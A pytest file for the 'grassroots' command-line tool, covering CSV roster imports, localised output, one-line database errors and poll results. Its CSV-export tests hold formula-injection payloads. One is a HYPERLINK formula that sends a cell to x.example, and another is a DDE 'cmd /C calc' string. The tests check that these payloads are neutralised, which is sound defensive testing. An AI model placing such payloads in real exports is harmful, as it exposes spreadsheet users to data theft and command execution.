"""What an operator meets at the `grassroots` command: imports that never silently rewrite a
person, output in the deployment's language, one-line errors, safe CSV, and no figures of an
open poll. Real subprocesses on SQLite and PostgreSQL (the `db_url` fixture)."""

from __future__ import annotations

import asyncio
import csv
import logging
import re
import subprocess
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from bot.app import App
from bot.clock import FixedClock
from bot.config import load_config
from bot.exports import neutralise
from bot.polls import create_polls, open_poll
from bot.roster import import_orgs, import_people
from bot.texts import texts_for
from storage.engine import open_database
from tests.conftest import KEY, Phone, _pg_admin
from tests.test_cli import environment, grassroots

ZH, EN = texts_for("zh-CN"), texts_for("en")
DEMO = resources.files("bot") / "demo"


def env_for(tmp_path: Path, db_url: str, **extra: str) -> dict[str, str]:
    return environment(tmp_path, GRASSROOTS_DATABASE_URL=db_url, GRASSROOTS_SECRET_KEY=KEY) | extra


def query(db_url: str, sql: str) -> list[dict[str, Any]]:
    async def run() -> list[dict[str, Any]]:
        db = await open_database(db_url)
        try:
            return [dict(r) for r in await db.fetch(sql)]
        finally:
            await db.close()

    return asyncio.run(run())


def person(db_url: str, phone: str) -> tuple[str | None, set[tuple[str, str]]]:
    """(name, {(org code, role)}) of whoever has the phone."""
    rows = query(
        db_url,
        "SELECT p.name, o.code, r.role FROM addresses a JOIN people p ON p.id = a.person_id "
        "LEFT JOIN roles r ON r.person_id = p.id LEFT JOIN organisations o ON o.id = r.org_id "
        f"WHERE a.value = '{phone}'",
    )
    if not rows:
        return None, set()
    return rows[0]["name"], {(r["code"], r["role"]) for r in rows if r["code"]}


def rejected(result: subprocess.CompletedProcess[str], file: str) -> dict[int, str]:
    found = re.findall(rf"^{re.escape(file)}:(\d+): (.+)$", result.stderr, re.M)
    return {int(line): reason for line, reason in found}


def no_traceback(result: subprocess.CompletedProcess[str]) -> str:
    """The one line an operator error prints on stderr (and no traceback)."""
    assert result.returncode != 0
    assert "Traceback" not in result.stderr, result.stderr
    info = re.compile(r"^\d{4}-\d\d-\d\d [\d:,]+ INFO ")  # progress, not the error
    lines = [line for line in result.stderr.splitlines() if not info.match(line)]
    assert len(lines) == 1, result.stderr
    return lines[0]


# --- 11.1: an import never silently rewrites a person -------------------------------------


def test_import_refuses_a_phone_held_by_someone_else(tmp_path: Path, db_url: str) -> None:
    env = env_for(tmp_path, db_url)
    assert grassroots(tmp_path, "demo", env=env).returncode == 0
    (tmp_path / "people.csv").write_text(
        "org_code,name,phone,role\n"
        "HX0201,陈党员,13800001101,member\n"  # 李秀英's phone
        "HX0201,新党员,13800009901,member\n"
        "HX0202,孙某,13800009902,member\n"  # one phone, two names in one file:
        "HX0202,钱某,138 0000 9902,member\n"  # both rows are refused
        "HX01,张建国,13800001100,leader\n"  # the same person in a second organisation
        "HX0201,新党员,13800009901,member\n",  # a repeated row
        encoding="utf-8",
    )
    result = grassroots(tmp_path, "--lang", "en", "import-people", "people.csv", env=env)
    assert result.returncode == 1
    reasons = rejected(result, "people.csv")
    assert reasons.keys() == {2, 4, 5, 7}
    assert reasons[2].startswith("phone +8613800001101 belongs to 李秀英 (HX0101);")
    assert "--rename" in reasons[2]
    assert "孙某 (line 4)" in reasons[5] and "钱某 (line 5)" in reasons[4]
    assert "repeats line 3" in reasons[7]
    assert "people: 2 imported, 4 rejected of 6 rows" in result.stdout
    assert person(db_url, "+8613800001101") == ("李秀英", {("HX0101", "member")})
    assert person(db_url, "+8613800009902") == (None, set())
    assert person(db_url, "+8613800009901") == ("新党员", {("HX0201", "member")})
    assert person(db_url, "+8613800001100") == (
        "张建国",
        {("HX0101", "secretary"), ("HX01", "leader")},
    )
    assert query(db_url, "SELECT count(*) AS n FROM people WHERE name = '陈党员'")[0]["n"] == 0


def test_rename_is_deliberate(tmp_path: Path, db_url: str) -> None:
    env = env_for(tmp_path, db_url)
    assert grassroots(tmp_path, "demo", env=env).returncode == 0
    (tmp_path / "fix.csv").write_text(
        "组织代码,姓名,手机,角色\nHX0101,李秀瑛,13800001101,党员\n", encoding="utf-8"
    )
    plain = grassroots(tmp_path, "--lang", "en", "import-people", "fix.csv", env=env)
    assert plain.returncode == 1
    assert person(db_url, "+8613800001101")[0] == "李秀英"
    renamed = grassroots(tmp_path, "--lang", "en", "import-people", "--rename", "fix.csv", env=env)
    assert renamed.returncode == 0, renamed.stderr
    assert "fix.csv:2: renamed 李秀英 to 李秀瑛 (+8613800001101)" in renamed.stdout
    assert person(db_url, "+8613800001101") == ("李秀瑛", {("HX0101", "member")})
    # Spelling the same name with other spaces or full-width letters renames nobody.
    (tmp_path / "same.csv").write_text(
        "org_code,name,phone,role\nHX0101, 李 秀瑛 ,13800001101,member\n"
        "HX0101T,Ｌｉ Ｘｉａｏｌｏｎｇ,13800001201,member\n",
        encoding="utf-8",
    )
    query(db_url, "UPDATE people SET name = 'Li Xiaolong' WHERE name = '李小龙'")
    same = grassroots(tmp_path, "--lang", "en", "import-people", "same.csv", env=env)
    assert same.returncode == 0, same.stderr
    assert person(db_url, "+8613800001101")[0] == "李秀瑛"


def test_import_notes_a_member_in_a_second_branch(tmp_path: Path, db_url: str) -> None:
    """A plain import only adds: someone who moved stays in the old branch too. That is
    said, so the operator can end the old role with --replace."""
    env = env_for(tmp_path, db_url)
    assert grassroots(tmp_path, "demo", env=env).returncode == 0
    (tmp_path / "moved.csv").write_text(
        "org_code,name,phone,role\nHX0201,李秀英,13800001101,member\n", encoding="utf-8"
    )
    result = grassroots(tmp_path, "--lang", "en", "import-people", "moved.csv", env=env)
    assert result.returncode == 0, result.stderr
    assert "moved.csv:2: 李秀英 is also member of HX0101" in result.stdout
    assert person(db_url, "+8613800001101")[1] == {("HX0101", "member"), ("HX0201", "member")}


# --- 11.16: the CLI speaks the deployment's language -------------------------------------


def test_cli_speaks_chinese_by_default_and_english_when_told(tmp_path: Path) -> None:
    assert grassroots(tmp_path, "demo").returncode == 0
    args = ("broadcast", "send", "--org", "HX0101", "--role", "member", "--text", "周五开会")
    zh = grassroots(tmp_path, *args)
    assert zh.returncode == 0, zh.stderr
    first = zh.stdout.splitlines()[0]
    assert "queued" not in first and "segment" not in first
    assert first == ZH.get("cli.broadcast.queued", count=5, segments=1, encoding="UCS-2")

    (tmp_path / "en.toml").write_text('[bot]\nlanguage = "en"\n', encoding="utf-8")
    en = grassroots(tmp_path, "--config", "en.toml", *args)
    assert en.stdout.splitlines()[0] == EN.get(
        "cli.broadcast.queued", count=5, segments=1, encoding="UCS-2"
    )
    assert "queued for 5 people" in en.stdout
    flag = grassroots(tmp_path, "--lang", "en", *args)
    assert flag.stdout.splitlines()[0] == en.stdout.splitlines()[0]

    failed = grassroots(tmp_path, "inbound", "failed")
    assert failed.stdout.strip() == ZH.get("cli.inbound.failed_count", count=0)
    assert "failed message" not in failed.stdout
    status = grassroots(tmp_path, "broadcast", "status", zh.stdout.splitlines()[-1])
    assert status.returncode == 0, status.stderr
    assert "recipients" not in status.stdout and "waiting" not in status.stdout

    (tmp_path / "people.csv").write_text(
        "org_code,name,phone,role\nHX0101,刘新,13800009911,member\nHX9,王五,1,member\n",
        encoding="utf-8",
    )
    report = grassroots(tmp_path, "import-people", "people.csv")
    assert report.stdout.strip() == ZH.get(
        "cli.import.summary", what=ZH.get("cli.import.people"), imported=1, rejected=1, rows=2
    )
    assert rejected(report, "people.csv")[3] == ZH.get("cli.import.unknown_org", code="'HX9'")


def test_poll_output_in_chinese(tmp_path: Path) -> None:
    assert grassroots(tmp_path, "demo").returncode == 0
    created = grassroots(
        tmp_path,
        "poll",
        "create",
        "--org",
        "HX0101",
        "--question",
        "路灯修得好吗",
        "--closes",
        "2d",
    )
    assert created.returncode == 0, created.stderr
    assert "audience" not in created.stdout and "queued" not in created.stdout
    code = created.stdout.splitlines()[-1]
    shown = grassroots(tmp_path, "poll", "results", code)
    assert shown.returncode == 0, shown.stderr
    assert "turnout" not in shown.stdout and "hidden" not in shown.stdout
    assert ZH.get("cli.poll.open_turnout_only", closes="")[:6] in shown.stdout


CAMPAIGN_ONE_LANGUAGE = """[campaign]
id = "one-language"
name = { zh-CN = "只写中文的活动" }
start = 2027-01-04

[[phase]]
id = "p1"
name = { en = "Phase one" }
start = "start"

[[milestone]]
id = "m1"
date = "start + 1d"
audience = ["members"]
text = { zh-CN = "开会" }
"""


def test_campaign_file_with_one_language_falls_back(tmp_path: Path) -> None:
    (tmp_path / "c.toml").write_text(CAMPAIGN_ONE_LANGUAGE, encoding="utf-8")
    en = grassroots(tmp_path, "--lang", "en", "campaign", "check", "c.toml")
    assert en.returncode == 0, en.stderr
    assert "开会" in en.stdout and "Phase one" in en.stdout
    zh = grassroots(tmp_path, "campaign", "check", "c.toml")
    assert zh.returncode == 0, zh.stderr
    assert "开会" in zh.stdout and "Phase one" in zh.stdout


# --- 11.17: one-line errors, on PostgreSQL too --------------------------------------------


def pg_url(db_url: str) -> str:
    if not db_url.startswith("postgresql"):
        pytest.skip("a PostgreSQL case")
    return db_url


def test_postgres_without_secret_key_is_one_line(tmp_path: Path, db_url: str) -> None:
    env = environment(tmp_path, GRASSROOTS_DATABASE_URL=pg_url(db_url))
    line = no_traceback(grassroots(tmp_path, "demo", env=env))
    assert "GRASSROOTS_SECRET_KEY" in line


@pytest.mark.parametrize(
    ("change", "fragments"),
    [
        (
            lambda url: re.sub(r"search_path=\w+", "search_path=no_such_schema", url),
            ("no_such_schema", "CREATE SCHEMA"),
        ),
        (lambda url: url.replace("127.0.0.1:5432", "127.0.0.1:1"), ("127.0.0.1:1",)),
        (lambda url: re.sub(r"/test\b", "/no_such_database", url), ("no_such_database",)),
    ],
    ids=["schema", "unreachable", "database"],
)
def test_postgres_connection_problems_are_one_line(
    tmp_path: Path, db_url: str, change: Any, fragments: tuple[str, ...]
) -> None:
    url = change(pg_url(db_url))
    assert url != db_url
    line = no_traceback(grassroots(tmp_path, "demo", env=env_for(tmp_path, url)))
    assert "GRASSROOTS_DATABASE_URL" in line
    for fragment in fragments:
        assert fragment in line


def test_serve_with_a_missing_schema_is_one_line(tmp_path: Path, db_url: str) -> None:
    url = re.sub(r"search_path=\w+", "search_path=no_such_schema", pg_url(db_url))
    line = no_traceback(grassroots(tmp_path, "serve", "--port", "1", env=env_for(tmp_path, url)))
    assert "no_such_schema" in line


def test_a_user_who_may_not_create_tables_is_one_line(tmp_path: Path, db_url: str) -> None:
    url = pg_url(db_url)
    schema = url.rsplit("search_path=", 1)[1]
    role = f"nobody_{schema}"
    _pg_admin(url.split("?")[0], f"CREATE ROLE {role} LOGIN")
    try:
        limited = url.replace("postgres@", f"{role}@")
        line = no_traceback(grassroots(tmp_path, "demo", env=env_for(tmp_path, limited)))
        assert "GRASSROOTS_DATABASE_URL" in line
    finally:
        _pg_admin(url.split("?")[0], f"DROP ROLE {role}")


def test_sqlite_path_that_cannot_be_opened_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    url = f"sqlite+aiosqlite:///{tmp_path / 'file' / 'x.db'}"
    line = no_traceback(grassroots(tmp_path, "demo", env=env_for(tmp_path, url)))
    assert "GRASSROOTS_DATABASE_URL" in line


@pytest.mark.parametrize(
    ("value", "key", "problem"),
    [
        ("2026-13-01", "campaign.start", "month 13"),
        ("2026-02-30", "campaign.start", "day 30"),
    ],
)
def test_campaign_check_names_an_impossible_date(
    tmp_path: Path, value: str, key: str, problem: str
) -> None:
    text = CAMPAIGN_ONE_LANGUAGE.replace("2027-01-04", value)
    (tmp_path / "c.toml").write_text(text, encoding="utf-8")
    result = grassroots(tmp_path, "--lang", "en", "campaign", "check", "c.toml")
    line = no_traceback(result)
    assert line.startswith(f"c.toml:4: {key}: ")
    assert problem in line and value in line


def test_twilio_request_logging_is_turned_down(tmp_path: Path) -> None:
    from bot.cli import main

    root = logging.getLogger()
    saved = root.handlers[:], root.level
    try:
        (tmp_path / "c.toml").write_text(CAMPAIGN_ONE_LANGUAGE, encoding="utf-8")
        result = CliRunner().invoke(main, ["campaign", "check", str(tmp_path / "c.toml")])
        assert result.exit_code == 0, result.output
        for name in ("twilio", "twilio.http_client"):
            assert logging.getLogger(name).getEffectiveLevel() >= logging.WARNING
    finally:
        root.handlers[:], _ = saved
        root.setLevel(saved[1])


# --- 12.13: CSV cells cannot become formulas ----------------------------------------------

DANGEROUS = ['=HYPERLINK("http://x.example/?a="&A1,"看")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("满意", "满意"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
    ],
)
def test_neutralise(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


# --- 12.17 and 12.13: an open poll shows turnout only; CSV export is safe ---------------


@pytest.fixture
async def live(db_url: str) -> AsyncIterator[App]:
    """The demo county in-process, on the wall clock the CLI subprocess uses too."""
    config = load_config(env={"GRASSROOTS_DATABASE_URL": db_url, "GRASSROOTS_SECRET_KEY": KEY})
    app = await App.open(config, FixedClock(datetime.now(UTC)))
    now = app.clock.now()
    with resources.as_file(DEMO / "orgs.csv") as orgs:
        await import_orgs(app.repos, orgs, now)
    with resources.as_file(DEMO / "people.csv") as people:
        await import_people(app.repos, people, now)
    try:
        yield app
    finally:
        await app.close()


# Ten: no breakdown of fewer answers is shown (12.5).
VILLAGERS = [f"+861390000{village}10{i}" for village in (1, 2) for i in range(1, 6)]


async def test_open_poll_shows_turnout_only(tmp_path: Path, db_url: str, live: App) -> None:
    now = live.clock.now()
    county = await live.repos.orgs.by_code("HX")
    assert county is not None
    [poll] = await create_polls(
        live.repos,
        org_id=county.id,
        question="村务公开满意吗？",
        options=DANGEROUS,
        audience="public",
        opens_at=now,
        closes_at=now + timedelta(hours=2),
        status="scheduled",
        now=now,
        created_by=None,
        source="test",
    )
    await open_poll(live.repos, poll, now, live.config.zone, "zh-CN")
    for number, answer in zip(VILLAGERS, "1111122233", strict=True):
        await Phone(live, number).says(f"{poll.code} {answer}")
    env = env_for(tmp_path, db_url)

    def results(*extra: str) -> subprocess.CompletedProcess[str]:
        run = grassroots(tmp_path, "--lang", "en", "poll", "results", poll.code, *extra, env=env)
        assert run.returncode == 0, run.stderr
        return run

    hidden = results("--csv", "open.csv")
    assert "turnout: 10/" in hidden.stdout
    assert "--force" in hidden.stdout
    assert "@SUM(1)" not in hidden.stdout and " 50%" not in hidden.stdout
    assert not (tmp_path / "open.csv").exists()

    forced = results("--force", "--csv", "forced.csv")
    assert " 50%" in forced.stdout  # five of ten chose the first option
    rows = list(csv.reader((tmp_path / "forced.csv").open(encoding="utf-8")))
    labels = {row[2] for row in rows[1:]}
    assert labels == {"'" + label for label in DANGEROUS}
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row

    # The closing time passes without any sweep: the poll is closed for the CLI as for chat.
    later = now - timedelta(seconds=1)
    await live.repos.db.write(
        "UPDATE polls SET closes_at = :at WHERE id = :id", {"at": later, "id": poll.id}
    )
    closed = results()
    assert " 50%" in closed.stdout and "--force" not in closed.stdout


def test_campaign_problems_in_chinese_by_default(tmp_path: Path) -> None:
    text = CAMPAIGN_ONE_LANGUAGE.replace('audience = ["members"]', 'audience = ["crowd"]')
    (tmp_path / "c.toml").write_text(text.replace("2027-01-04", "2026-13-01"), encoding="utf-8")
    line = no_traceback(grassroots(tmp_path, "campaign", "check", "c.toml"))
    assert line == "c.toml:4: campaign.start: " + ZH.get(
        "cli.campaign.problem.no_such_month", value="2026-13-01", month=13
    )
    (tmp_path / "c.toml").write_text(text, encoding="utf-8")
    line = no_traceback(grassroots(tmp_path, "campaign", "check", "c.toml"))
    assert line.endswith(
        ZH.get(
            "cli.campaign.problem.unknown_audience",
            word="'crowd'",
            words="secretaries, members, public, leaders",
        )
    )
